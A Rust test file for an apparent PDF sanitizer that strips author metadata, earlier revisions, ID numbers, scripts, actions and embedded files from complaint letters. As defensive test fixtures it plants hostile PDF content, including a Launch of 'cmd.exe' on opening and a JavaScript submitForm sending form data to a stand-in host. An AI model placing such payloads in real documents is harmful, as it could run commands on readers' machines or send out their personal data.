//! PDF documents lose their author, creator, producer, XMP and earlier revisions, their
//! JavaScript, actions, embedded files, form data and annotations' authors, and keep their
//! pages.

use crate::fixtures::*;
use aduan_attachments::{Format, sanitize};
use lopdf::content::{Content, Operation};
use lopdf::{Document, Object, Stream, dictionary};

/// A one-page letter whose Info and XMP name its author and scanner.
fn letter() -> Vec<u8> {
    let mut doc = Document::with_version("1.5");
    let pages_id = doc.new_object_id();
    let font_id = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Courier",
    });
    let resources_id = doc.add_object(dictionary! { "Font" => dictionary! { "F1" => font_id } });
    let content = Content {
        operations: vec![
            Operation::new("BT", vec![]),
            Operation::new("Tf", vec!["F1".into(), 24.into()]),
            Operation::new("Td", vec![72.into(), 700.into()]),
            Operation::new("Tj", vec![Object::string_literal("Jalan berlubang")]),
            Operation::new("ET", vec![]),
        ],
    };
    let content_id = doc.add_object(Stream::new(dictionary! {}, content.encode().unwrap()));
    let xmp_id = doc.add_object(Stream::new(
        dictionary! { "Type" => "Metadata", "Subtype" => "XML" },
        xmp(),
    ));
    let page_id = doc.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages_id, "Contents" => content_id, "Metadata" => xmp_id,
    });
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1,
            "Resources" => resources_id,
            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
        }),
    );
    let catalog_id = doc.add_object(dictionary! {
        "Type" => "Catalog", "Pages" => pages_id, "Metadata" => xmp_id,
    });
    let info_id = doc.add_object(dictionary! {
        "Author" => Object::string_literal(NAME),
        "Creator" => Object::string_literal(format!("Scanner {SERIAL}")),
        "Producer" => Object::string_literal("ScanSoft PDF Create"),
        "Title" => Object::string_literal("Surat pengaduan Siti"),
        "Subject" => Object::string_literal("Pengaduan"),
        "Keywords" => Object::string_literal("jalan, Surabaya"),
    });
    doc.trailer.set("Root", catalog_id);
    doc.trailer.set("Info", info_id);
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

/// `pdf` with an incremental update that replaces the Info dictionary by one without the
/// author, as an editor does when someone "removes" the author: the old one stays in the file.
fn with_author_edited_out(pdf: &[u8]) -> Vec<u8> {
    let doc = Document::load_mem(pdf).unwrap();
    let info = doc.trailer.get(b"Info").unwrap().as_reference().unwrap();
    let root = doc.trailer.get(b"Root").unwrap().as_reference().unwrap();
    let size = doc.trailer.get(b"Size").unwrap().as_i64().unwrap();
    let text = String::from_utf8_lossy(pdf);
    let prev: usize = text[text.rfind("startxref").unwrap() + 9..]
        .split_whitespace()
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let mut out = pdf.to_vec();
    out.push(b'\n');
    let object_at = out.len();
    out.extend(format!("{} 0 obj\n<< /Producer (Editor) >>\nendobj\n", info.0).bytes());
    let xref_at = out.len();
    out.extend(
        format!(
            "xref\n{} 1\n{object_at:010} 00000 n \ntrailer\n<< /Size {size} /Root {} 0 R \
             /Info {} 0 R /Prev {prev} >>\nstartxref\n{xref_at}\n%%EOF\n",
            info.0, root.0, info.0
        )
        .bytes(),
    );
    out
}

#[test]
fn a_pdf_with_an_author_comes_back_without_it_and_still_reads() {
    let original = letter();
    assert!(contains(&original, NAME) && contains(&original, SERIAL));
    let clean = sanitize(&original, Format::Pdf).unwrap();
    let doc = Document::load_mem(&clean).unwrap();
    assert!(doc.trailer.get(b"Info").is_err(), "no Info dictionary");
    assert!(
        doc.catalog().unwrap().get(b"Metadata").is_err(),
        "no XMP on the catalogue"
    );
    for planted in [
        NAME,
        SERIAL,
        "ScanSoft",
        "Surat pengaduan",
        "Surabaya",
        "xmpmeta",
    ] {
        assert!(!contains(&clean, planted), "{planted} is still in the copy");
    }
    assert_eq!(doc.get_pages().len(), 1);
    assert!(doc.extract_text(&[1]).unwrap().contains("Jalan berlubang"));
}

#[test]
fn an_author_left_in_an_earlier_revision_is_gone_too() {
    let original = with_author_edited_out(&letter());
    let latest = Document::load_mem(&original).unwrap();
    let info = latest.trailer.get(b"Info").unwrap().as_reference().unwrap();
    let info = latest.get_dictionary(info).unwrap();
    assert!(
        info.get(b"Author").is_err(),
        "the latest revision has no author"
    );
    assert!(
        contains(&original, NAME),
        "but the earlier revision still names her"
    );
    let clean = sanitize(&original, Format::Pdf).unwrap();
    assert!(!contains(&clean, NAME) && !contains(&clean, "Editor"));
    assert_eq!(Document::load_mem(&clean).unwrap().get_pages().len(), 1);
}

const NIK: &str = "3578014507900001";
const ATTACHED: &str = "RAHASIA-LAMPIRAN-ASLI";

/// [`letter`] with what a document can run, embed or collect: JavaScript on opening, in the
/// name tree and behind a link, an action on closing, an embedded file (in the name tree and
/// as a file attachment annotation), a form field holding a NIK, and a comment whose author
/// is named.
fn active_letter() -> Vec<u8> {
    let mut doc = Document::load_mem(&letter()).unwrap();
    let page_id = *doc.get_pages().get(&1).unwrap();
    let script = doc.add_object(dictionary! {
        "S" => "JavaScript", "JS" => Object::string_literal("app.alert('halo')"),
    });
    let embedded = doc.add_object(Stream::new(
        dictionary! { "Type" => "EmbeddedFile" },
        ATTACHED.as_bytes().to_vec(),
    ));
    let filespec = doc.add_object(dictionary! {
        "Type" => "Filespec", "F" => Object::string_literal("bukti.txt"),
        "EF" => dictionary! { "F" => embedded },
    });
    let rect = || vec![10.into(), 10.into(), 50.into(), 50.into()];
    let attachment = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "FileAttachment", "Rect" => rect(), "FS" => filespec,
        "T" => Object::string_literal(NAME),
    });
    let comment = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Text", "Rect" => rect(),
        "Contents" => Object::string_literal("Lubangnya sedalam lutut"),
        "T" => Object::string_literal(NAME),
        "CreationDate" => Object::string_literal("D:20260301120000+07'00'"),
    });
    let field = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx", "Rect" => rect(),
        "T" => Object::string_literal("nik"), "V" => Object::string_literal(NIK),
    });
    let link = dictionary! {
        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(),
        "A" => dictionary! {
            "S" => "JavaScript",
            "JS" => Object::string_literal("this.submitForm('http://pengumpul.example')"),
        },
    };
    let annots = vec![attachment.into(), comment.into(), field.into(), link.into()];
    doc.get_object_mut(page_id)
        .unwrap()
        .as_dict_mut()
        .unwrap()
        .set("Annots", annots);
    let catalog = doc.catalog_mut().unwrap();
    catalog.set(
        "OpenAction",
        dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") },
    );
    catalog.set("AA", dictionary! { "WC" => script });
    catalog.set("AcroForm", dictionary! { "Fields" => vec![field.into()] });
    catalog.set(
        "Names",
        dictionary! {
            "JavaScript" => dictionary! {
                "Names" => vec![Object::string_literal("mulai"), script.into()],
            },
            "EmbeddedFiles" => dictionary! {
                "Names" => vec![Object::string_literal("bukti"), filespec.into()],
            },
        },
    );
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

#[test]
fn a_pdf_loses_its_scripts_actions_embedded_files_form_data_and_commenters() {
    let original = active_letter();
    let planted = [
        NAME,
        NIK,
        ATTACHED,
        "app.alert",
        "submitForm",
        "cmd.exe",
        "/JavaScript",
        "/EmbeddedFile",
        "/AcroForm",
        "/OpenAction",
        "/FileAttachment",
        "CreationDate",
    ];
    for p in planted {
        assert!(contains(&original, p), "{p} is planted");
    }
    let clean = sanitize(&original, Format::Pdf).unwrap();
    for p in planted {
        assert!(!contains(&clean, p), "{p} is still in the copy");
    }
    let doc = Document::load_mem(&clean).unwrap();
    assert!(doc.extract_text(&[1]).unwrap().contains("Jalan berlubang"));
    let page = doc
        .get_dictionary(*doc.get_pages().get(&1).unwrap())
        .unwrap();
    let annots = page.get(b"Annots").unwrap().as_array().unwrap();
    assert_eq!(annots.len(), 3, "the comment, the field and the link stay");
    assert!(
        contains(&clean, "Lubangnya sedalam lutut"),
        "the comment's words stay, without its author"
    );
}

/// [`letter`] with its dangerous parts hidden the ways real files hold them: the page's
/// annotations in an indirect array, a media annotation whose subtype is given by reference,
/// a launch reached through an indirect `/Next` array, a link to a local file beside one to
/// the web, a filled-in field whose appearance draws the NIK, a page action, and a signature
/// naming its signer under `/Perms`.
fn hidden_letter() -> Vec<u8> {
    let mut doc = Document::load_mem(&letter()).unwrap();
    let page_id = *doc.get_pages().get(&1).unwrap();
    let rect = || vec![10.into(), 10.into(), 50.into(), 50.into()];
    let media = doc.add_object(Object::Name(b"RichMedia".to_vec()));
    let rich = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => media, "Rect" => rect(),
        "T" => Object::string_literal(NAME),
    });
    let launch = doc.add_object(dictionary! {
        "S" => "Launch", "F" => Object::string_literal("cmd.exe"),
    });
    let next = doc.add_object(vec![launch.into()]);
    let to_page = dictionary! {
        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(),
        "A" => dictionary! { "S" => "GoTo", "D" => vec![page_id.into(), "Fit".into()], "Next" => next },
    };
    let local = dictionary! {
        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(),
        "A" => dictionary! { "S" => "URI", "URI" => Object::string_literal("file:///rahasia/berkas") },
    };
    let web = dictionary! {
        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(),
        "A" => dictionary! { "S" => "URI", "URI" => Object::string_literal("https://lapor.go.id/") },
    };
    let drawn = doc.add_object(Stream::new(
        dictionary! { "Type" => "XObject", "Subtype" => "Form" },
        format!("BT /F1 10 Tf 2 2 Td ({NIK}) Tj ET").into_bytes(),
    ));
    let field = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx", "Rect" => rect(),
        "AP" => dictionary! { "N" => drawn },
    });
    let annots = doc.add_object(vec![
        rich.into(),
        to_page.into(),
        local.into(),
        web.into(),
        field.into(),
    ]);
    let script = doc.add_object(dictionary! {
        "S" => "JavaScript", "JS" => Object::string_literal("app.alert('buka')"),
    });
    let page = doc.get_object_mut(page_id).unwrap().as_dict_mut().unwrap();
    page.set("Annots", annots);
    page.set("AA", dictionary! { "O" => script });
    let signature = doc.add_object(dictionary! {
        "Type" => "Sig", "Name" => Object::string_literal(NAME),
        "Location" => Object::string_literal("Surabaya"),
    });
    doc.catalog_mut()
        .unwrap()
        .set("Perms", dictionary! { "DocMDP" => signature });
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

#[test]
fn what_hides_behind_references_indirect_arrays_appearances_and_signatures_goes_too() {
    let original = hidden_letter();
    let planted = [
        NAME,
        NIK,
        "cmd.exe",
        "file:///rahasia",
        "app.alert",
        "/Perms",
        "/RichMedia",
        "/Launch",
    ];
    for p in planted {
        assert!(contains(&original, p), "{p} is planted");
    }
    let clean = sanitize(&original, Format::Pdf).unwrap();
    for p in planted {
        assert!(!contains(&clean, p), "{p} is still in the copy");
    }
    assert!(contains(&clean, "https://lapor.go.id/"), "a web link stays");
    let doc = Document::load_mem(&clean).unwrap();
    assert!(doc.extract_text(&[1]).unwrap().contains("Jalan berlubang"));
}

#[test]
fn a_form_with_no_page_of_its_own_is_refused() {
    let mut doc = Document::load_mem(&letter()).unwrap();
    let pages = doc
        .catalog()
        .unwrap()
        .get(b"Pages")
        .unwrap()
        .as_reference()
        .unwrap();
    let pages = doc.get_object_mut(pages).unwrap().as_dict_mut().unwrap();
    pages.set("Kids", Vec::<Object>::new());
    pages.set("Count", 0);
    let mut bytes = Vec::new();
    doc.save_to(&mut bytes).unwrap();
    let e = sanitize(&bytes, Format::Pdf).unwrap_err();
    assert_eq!(e.code(), "attachment_corrupt");
    assert!(e.to_string().contains("no page"), "{e}");
}

#[test]
fn a_file_that_only_starts_like_a_pdf_is_corrupt() {
    let e = sanitize(b"%PDF-1.7\nnot really a pdf", Format::Pdf).unwrap_err();
    assert_eq!(e.code(), "attachment_corrupt");
}
